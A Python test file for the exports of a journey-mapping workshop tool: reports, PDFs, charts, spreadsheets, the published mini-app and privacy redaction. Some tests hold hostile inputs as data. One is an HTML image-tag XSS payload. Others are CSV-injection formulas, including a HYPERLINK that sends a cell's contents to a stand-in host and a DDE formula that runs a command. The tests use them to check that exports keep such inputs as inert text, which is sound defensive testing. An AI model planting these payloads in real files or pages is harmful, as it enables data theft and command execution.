"""What leaves the workshop: the report (HTML, PDF), the published mini-app, charts, tables and
the JSON workspace; only the team's own shareable data, user text always shown as text."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from browsing import guarded_context

from journeykit.app.cli import main
from journeykit.app.export import WRITERS
from journeykit.app.export.documents import report_html
from journeykit.app.export.figures import Shared
from journeykit.app.export.printing import write_report
from journeykit.app.export.privacy import KEPT_PRIVATE, shareable_document
from journeykit.app.export.tables import write_charts, write_tables
from journeykit.app.publish import publish
from journeykit.app.serve import free_port, wait_until_answering
from journeykit.model import Insight, Persona, Workspace
from journeykit.sample import create_sample
from journeykit.sample.practice import practice_team
from journeykit.store import Store
from journeykit.store.jsonio import dumps, export_workspace, import_document

DAY = dt.date(2026, 11, 24)


@pytest.fixture(scope="module")
def sample_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "workshop.db"
    with Store(path) as store:
        create_sample(store, responses=1500, events=3000, interviews=8)
    return path


@pytest.fixture
def sample(sample_path: Path) -> Store:
    with Store(sample_path) as store:
        yield store


def test_names_are_private_unless_the_team_says_otherwise(sample: Store) -> None:
    full = export_workspace(sample, "north")
    shared = shareable_document(sample, "north")
    assert full["workspace"]["private"] == ["names"]
    people = {n["interviewee"] for n in full["workspace"]["interviews"]}
    users = {e["user_id"] for e in full["usage_events"]}
    respondents = {r["respondent"] for r in full["survey_responses"] if r["respondent"]}
    text = dumps(shared)
    for secret in list(people)[:5] + list(users)[:20] + list(respondents)[:20]:
        assert f'"{secret}"' not in text
    assert {n["interviewee"] for n in shared["workspace"]["interviews"]} == {
        f"interviewee-{i}" for i in range(1, len(people) + 1)
    }
    # the same person keeps one stand-in, so funnels and repeat answers still add up
    assert len({e["user_id"] for e in shared["usage_events"]}) == len(users)
    assert [n["text"] for n in shared["workspace"]["interviews"]] == [
        n["text"] for n in full["workspace"]["interviews"]
    ]


def test_quotes_marked_private_stay_inside(tmp_path: Path) -> None:
    with Store(tmp_path / "w.db") as store:
        create_sample(store, responses=300, events=300, interviews=4)
        header = store.header("north")
        store.update_header(
            header.item.model_copy(update={"private": ["names", "quotes"]}), header.revision
        )
        shared = shareable_document(store, "north")
        html = report_html(Shared.of(store, "north"), DAY)
    assert {n["text"] for n in shared["workspace"]["interviews"]} == {KEPT_PRIVATE}
    assert {r.get("comment", "") for r in shared["survey_responses"]} <= {KEPT_PRIVATE, ""}
    for insight in shared["workspace"]["insights"]:
        assert set(insight["evidence"]) <= {KEPT_PRIVATE}
    assert "nobody to ask" not in html and KEPT_PRIVATE in html


def test_the_report_holds_one_team_and_no_store_path(sample: Store, sample_path: Path) -> None:
    html = report_html(Shared.of(sample, "north"), DAY)
    sections = ("Goals and scope", "Personas", "Journey maps", "Emotion curves", "Scores", "Usage")
    for section in sections:
        assert f"<h2>{section}</h2>" in html
    assert "Finance lead at a growing company" in html  # north's persona
    assert "Small shop owner" not in html  # south's persona
    assert str(sample_path) not in html and sample_path.name not in html
    # two maps, the curves, the scores, the funnel, where people went next, the priority matrix
    assert html.count("<svg") == 7
    assert "<script" not in html and "http://" not in html.replace("http://www.w3.org", "")


def test_user_text_is_text_in_every_export(tmp_path: Path, hostile: str) -> None:
    with Store(tmp_path / "w.db") as store:
        store.create_team(Workspace(id="t", name=f"Team {hostile}", goals=[hostile]))
        store.add("t", Persona(id="p", name=hostile, quote=hostile))
        store.add("t", Insight(id="i", kind="pain_point", title=hostile, evidence=[hostile]))
        html = report_html(Shared.of(store, "t"), DAY)
        publish(store, "t", tmp_path / "app")
        write_tables(store, "t", tmp_path / "t.xlsx", "xlsx")
    assert "<img" not in html and html.count("&lt;img src=x onerror=alert(1)&gt;") >= 4
    published = (tmp_path / "app" / "data" / "report.json").read_text(encoding="utf-8")
    assert "<img" not in published and "&lt;img" in published
    assert pd.read_excel(tmp_path / "t.xlsx", sheet_name="personas")["name"][0] == hostile


def test_export_import_report_again_gives_the_same_report(sample: Store, tmp_path: Path) -> None:
    before = report_html(Shared.of(sample, "north"), DAY)
    document = json.loads(dumps(shareable_document(sample, "north")))
    with Store(tmp_path / "empty.db") as empty:
        team = import_document(empty, document, "north.json")
        after = report_html(Shared.of(empty, team), DAY)
    assert after == before


def test_charts_and_tables_in_every_format(sample: Store, tmp_path: Path) -> None:
    pngs = write_charts(sample, "north", tmp_path / "png", "png")
    svgs = write_charts(sample, "north", tmp_path / "svg", "svg")
    assert {p.stem for p in pngs} == {p.stem for p in svgs} >= {"priority-matrix", "scores"}
    assert all(p.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" for p in pngs)
    assert all(p.read_text(encoding="utf-8").lstrip().startswith("<svg") for p in svgs)
    book = pd.read_excel(write_tables(sample, "north", tmp_path / "t.xlsx", "xlsx")[0], None)
    assert set(book) == {"personas", "touchpoints", "steps", "insights", "actions", "scores"}
    assert len(book["steps"]) == 17 and book["scores"].loc[0, "where"] == "overall"
    csvs = write_tables(sample, "north", tmp_path / "csv", "csv")
    assert pd.read_csv(tmp_path / "csv" / "actions.csv")["owner"].notna().all()
    assert len(csvs) == 6


def test_the_command_line_writes_every_export_and_says_what_is_wrong(
    sample_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = ["--store", str(sample_path)]
    assert main(["report", "north", *store, "--out", str(tmp_path / "r.html"), "--pdf"]) == 0
    assert (tmp_path / "r.pdf").read_bytes()[:5] == b"%PDF-"
    assert (tmp_path / "r.pdf").stat().st_size > 50_000
    import pypdfium2 as pdfium

    first = pdfium.PdfDocument(tmp_path / "r.pdf")[0]
    assert (round(first.get_width() * 25.4 / 72), round(first.get_height() * 25.4 / 72)) == (
        210,
        297,
    ), "A4"
    out = tmp_path / "letter.html"
    assert main(["report", "north", *store, "--out", str(out), "--paper", "letter"]) == 0
    assert "@page { size: letter;" in out.read_text(encoding="utf-8")
    assert "Steps in full" in out.read_text(encoding="utf-8")
    assert main(["export", "north", *store, "--out", str(tmp_path / "w.json")]) == 0
    assert json.loads((tmp_path / "w.json").read_text(encoding="utf-8"))["format"]
    assert main(["export", "north", *store, "--out", str(tmp_path / "c"), "--format", "svg"]) == 0
    capsys.readouterr()
    assert main(["export", "north", *store, "--out", str(tmp_path / "x.txt")]) == 1
    assert "name a .json or .xlsx file, or give --format" in capsys.readouterr().err
    assert main(["report", "nobody", *store, "--out", str(tmp_path / "n.html")]) == 1
    assert "no team 'nobody'" in capsys.readouterr().err and not (tmp_path / "n.html").exists()
    # a report named as something else is refused (it was a web page in a .docx)
    assert main(["report", "north", *store, "--out", str(tmp_path / "r.docx")]) == 1
    assert "name it r.html, not" in capsys.readouterr().err
    assert not (tmp_path / "r.docx").exists()
    # a report named .pdf is printed (it was the web page, written into the .pdf)
    assert main(["report", "north", *store, "--out", str(tmp_path / "p.pdf")]) == 0
    assert (tmp_path / "p.pdf").read_bytes()[:5] == b"%PDF-" and (tmp_path / "p.html").exists()
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    assert main(["publish", "north", *store, "--out", str(tmp_path / "full")]) == 1
    assert "is there already" in capsys.readouterr().err
    assert (tmp_path / "full" / "keep.txt").read_text() == "mine"


def test_nothing_is_overwritten_without_force(
    sample_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = ["--store", str(sample_path)]
    notes = tmp_path / "notes.html"
    notes.write_text("my own notes", encoding="utf-8")
    # a PDF report writes its HTML beside it: an unrelated notes.html is not replaced
    assert main(["report", "north", *store, "--out", str(tmp_path / "notes.pdf"), "--pdf"]) == 1
    err = capsys.readouterr().err
    assert "notes.html is there already" in err and "--force" in err
    assert notes.read_text(encoding="utf-8") == "my own notes"
    backup = tmp_path / "w.json"
    backup.write_text("{}", encoding="utf-8")
    assert main(["export", "north", *store, "--out", str(backup)]) == 1
    assert backup.read_text(encoding="utf-8") == "{}"
    capsys.readouterr()
    assert main(["export", "north", *store, "--out", str(backup), "--force"]) == 0
    assert f"replaced {backup}" in capsys.readouterr().out
    assert json.loads(backup.read_text(encoding="utf-8"))["format"]


@pytest.mark.browser
def test_the_report_opens_from_a_file_with_every_chart_and_no_request(
    sample: Store, tmp_path: Path, browser, save_screenshot
) -> None:
    path = write_report(sample, "north", tmp_path / "report.html")
    context, requests = guarded_context(browser, allowed=("file://",))
    errors: list[str] = []
    tab = context.new_page()
    tab.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    tab.goto(path.as_uri())
    charts = tab.locator(".chart svg")
    assert charts.count() == 7  # the two maps, curves, scores, funnel, moves, priorities
    for index in range(charts.count()):
        box = charts.nth(index).bounding_box()
        assert box and box["width"] > 300 and box["height"] > 100
    assert tab.locator("h2", has_text="Action plan").is_visible()
    assert "Setup wizard" in tab.locator("#scores").inner_text()
    save_screenshot(tab, "report")
    context.close()
    assert requests == [] and errors == []


@pytest.mark.browser
@pytest.mark.parametrize("language", ["fa", "ru"])
def test_the_reports_map_keeps_its_text_in_its_columns_in_every_direction(
    sample: Store, tmp_path: Path, browser, save_screenshot, language: str
) -> None:
    """The map as the report draws it (inline SVG in a right-to-left page too): every line of
    the lanes inside the stage column it belongs to, the title on the page, a theme's mark
    shown. A right-to-left page once anchored every text at its other end: each column's text
    one column to the left, over the lane names, and the title off the edge."""
    path = write_report(sample, "north", tmp_path / "report.html", language=language)
    context, requests = guarded_context(browser, allowed=("file://",))
    tab = context.new_page()
    tab.goto(path.as_uri())
    chart = tab.locator(".chart svg").first
    chart.scroll_into_view_if_needed()
    found = tab.evaluate(
        """svg => {
            const box = r => { const b = r.getBoundingClientRect(); return [b.left, b.right]; };
            const cells = [...svg.querySelectorAll('.mark-rect path')]
                .map(box).filter(([l, r]) => r - l > 40);
            const texts = [...svg.querySelectorAll('.mark-text.role-mark text')]
                .map(t => ({text: t.textContent, box: box(t)}));
            const title = svg.querySelector('.role-title-text text, .role-title text');
            return {cells, texts, title: title && box(title), svg: box(svg)};
        }""",
        chart.element_handle(),
    )
    assert found["cells"] and found["texts"]
    left = min(cell[0] for cell in found["cells"])
    for text in found["texts"]:
        start, end = text["box"]
        assert start >= left - 1, f"{text['text']!r} starts left of the lanes"
        inside = [c for c in found["cells"] if c[0] - 1 <= start and end <= c[1] + 1]
        assert inside, f"{text['text']!r} crosses a column's edge"
    assert found["title"] and found["title"][0] >= found["svg"][0] - 1
    assert any(t["text"].startswith("◆") for t in found["texts"])  # the accepted themes
    save_screenshot(tab, f"report-map-{language}")
    context.close()
    assert requests == []


@pytest.mark.browser
def test_the_published_app_runs_in_a_fresh_environment(
    sample: Store, tmp_path: Path, browser, save_screenshot
) -> None:
    folder = publish(sample, "north", tmp_path / "app")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    python = venv / "bin" / "python"
    subprocess.run(
        [str(python), "-m", "pip", "install", "-q", "-r", str(folder / "requirements.txt")],
        check=True,
        timeout=600,
    )
    assert subprocess.run([str(python), "-c", "import journeykit"], cwd=folder).returncode != 0
    port = free_port()
    server = subprocess.Popen(
        [str(python), "run.py", str(port), "--no-browser"],
        cwd=folder,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        url = f"http://127.0.0.1:{port}/"
        wait_until_answering(url, server, seconds=90)
        context, outside = guarded_context(browser)
        tab = context.new_page()
        tab.goto(url, timeout=90_000)
        journey_map = tab.locator(".chart svg").first
        journey_map.wait_for(timeout=90_000)
        assert "Customer actions" in journey_map.text_content()
        assert journey_map.bounding_box()["height"] > 300
        assert tab.locator("h1", has_text="Team North").is_visible()
        tab.get_by_role("tab", name="Action plan").click()
        assert tab.get_by_text("Customer success").first.is_visible()
        save_screenshot(tab, "published-app")
        context.close()
        assert outside == []
    finally:
        import os
        import signal

        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=20)


def test_the_final_map_step_offers_the_files_and_keeps_the_marks(tmp_path: Path) -> None:
    import base64

    from journeykit.app.export_panel import FILES, ExportPanel

    with Store(tmp_path / "w.db") as store:
        create_sample(store, responses=300, events=300, interviews=4)
        panel = ExportPanel(store, "north")
        assert panel.marks["names"].value and not panel.marks["quotes"].value
        panel.marks["quotes"].value = True
        assert store.header("north").item.private == ["names", "quotes"]
        assert "kept private in every export: names, quotes" in panel.status.value
        panel.buttons[0].click()  # the report
        link = panel.download.value
        assert 'download="north-report.html"' in link
        report = base64.b64decode(link.split("base64,")[1].split('"')[0]).decode("utf-8")
        assert "<h1>Team North: growing companies</h1>" in report and KEPT_PRIVATE in report
        labels = list(FILES)
        panel.buttons[labels.index("Map (PNG)")].click()
        assert 'href="data:image/png;base64,iVBOR' in panel.download.value
        store.create_team(Workspace(id="empty", name="Empty"))
        empty = ExportPanel(store, "empty")
        empty.buttons[labels.index("Map (SVG)")].click()
        assert "Not made: there is no journey with steps yet" in empty.status.value
        assert empty.download.value == ""


PRACTICE = Path(__file__).resolve().parents[1] / "workshop" / "data" / "practice-survey.csv"
NPS_QUESTION = "How likely are you to recommend us?"
CSAT_QUESTION = "How satisfied were you with this step?"


@pytest.mark.parametrize(
    "dropped",
    [(), (CSAT_QUESTION,), (NPS_QUESTION,), None],
    ids=["nps-and-csat", "nps-only", "csat-only", "no-evidence-yet"],
)
def test_every_output_works_for_a_team_with_only_some_scores(
    tmp_path: Path, dropped: tuple[str, ...] | None
) -> None:
    """The practice survey (no CES), the same with fewer questions, and no survey yet: the
    report, each export and the published app are made without a traceback."""
    store_path = str(tmp_path / "w.db")
    with Store(store_path) as store:
        team = practice_team(store)
    args = ["--store", store_path]
    if dropped is not None:
        survey = pd.read_csv(PRACTICE, dtype=str, keep_default_na=False)
        survey.drop(columns=list(dropped)).to_csv(tmp_path / "survey.csv", index=False)
        imported = ["evidence", team, str(tmp_path / "survey.csv"), "--kind", "survey"]
        assert main([*imported, *args]) == 0
    assert main(["report", team, "--out", str(tmp_path / "r.html"), *args]) == 0
    assert "<html" in (tmp_path / "r.html").read_text(encoding="utf-8")
    for fmt in ("json", "xlsx", "csv", "png", "svg"):
        out = tmp_path / f"out-{fmt}"
        target = out.with_suffix(f".{fmt}") if fmt in ("json", "xlsx") else out
        assert main(["export", team, "--out", str(target), "--format", fmt, *args]) == 0, fmt
        assert target.exists()
    assert main(["publish", team, "--out", str(tmp_path / "app"), *args]) == 0
    assert (tmp_path / "app" / "run.py").is_file()


def test_every_file_of_the_final_map_step_is_made_or_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A new team with the practice survey only: each button makes its file; a fault inside a
    writer is said on the page, not swallowed."""
    import base64
    import io
    import zipfile
    from html import unescape

    from journeykit.app import export_panel
    from journeykit.app.export_panel import FILES, ExportPanel

    with Store(str(tmp_path / "w.db")) as store:
        team = practice_team(store)
        survey = pd.read_csv(PRACTICE, dtype=str, keep_default_na=False)
        from journeykit.evidence import import_evidence

        import_evidence(store, team, survey.to_csv(index=False).encode(), "s.csv", "survey")
        panel = ExportPanel(store, team)
        for label, (name, _write) in FILES.items():
            panel.make(label)
            said = unescape(panel.status.value)
            assert f"Made {team}-{name}" in said, (label, said)
            link = panel.download.value
            content = base64.b64decode(link.split("base64,")[1].split('"')[0])
            if name.endswith(".zip"):
                names = zipfile.ZipFile(io.BytesIO(content)).namelist()
                assert names, label
                if name == "mini-app.zip":
                    assert f"{team}-mini-app/run.py" in names
            else:
                assert content
        broken = dict(FILES)
        broken["Report (HTML)"] = ("report.html", lambda *_a: {}["ces"])
        monkeypatch.setattr(export_panel, "FILES", broken)
        panel.make("Report (HTML)")
        said = unescape(panel.status.value)
        assert "Not made: 'ces' (KeyError). This is a fault in JourneyKit" in said
        assert panel.download.value == ""


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://x.example/?"&A2,"Click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+1"],
)
def test_a_formula_typed_as_text_stays_text_in_every_table(tmp_path: Path, typed: str) -> None:
    """OWASP's CSV injection: read back with openpyxl and a CSV reader, the cell is the text."""
    import csv

    import openpyxl

    with Store(str(tmp_path / "w.db")) as store:
        team = practice_team(store)
        store.add(team, Persona(id="evil", name=typed, goals=[typed]))
        write_tables(store, team, tmp_path / "t.xlsx", "xlsx")
        write_tables(store, team, tmp_path / "csv", "csv")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["personas"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value and typed in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)
    with (tmp_path / "csv" / "personas.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    texts = [cell for row in rows for cell in row if typed in cell]
    assert texts and all(cell.startswith("'") for cell in texts)


def test_characters_no_one_can_see_never_reach_an_export(tmp_path: Path) -> None:
    """A name pasted from a word processor with a vertical tab, an escape or NUL: saved without
    them, and the report, SVG charts, the workbook and the mini-app are all made."""
    with Store(str(tmp_path / "w.db")) as store:
        team = practice_team(store)
        store.add(team, Persona(id="pasted", name="Night\x0bnurse\x1b\x00 \u202eX"))
        assert store.get(team, Persona, "pasted").item.name == "Night nurse X"
        for kind, write in WRITERS.items():
            target = tmp_path / (f"out.{kind}" if kind in ("json", "xlsx") else kind)
            write(store, team, target)
        assert "Night nurse X" in report_html(Shared.of(store, team))
        publish(store, team, tmp_path / "app")


def test_the_report_tells_usage_along_the_journey(sample: Store, store: Store, team: str) -> None:
    """The usage section: the funnel, where people went next (loops back marked), and the
    funnel side by side by platform and by channel with the difference and its interval."""
    html = report_html(Shared.of(sample, "north"), DAY)
    usage = html[html.index('id="usage"') : html.index('id="insights"')]
    assert "Where people went next" in usage and "back to an earlier stage" in usage
    assert "Conversion from first to last stage by platform" in usage
    assert "Conversion from first to last stage by channel" in usage
    assert "the largest group" in usage and "points" in usage
    assert usage.count("<svg") == 2
    blank = report_html(Shared.of(store, team), DAY)
    assert "No usage events." in blank[blank.index('id="usage"') :]
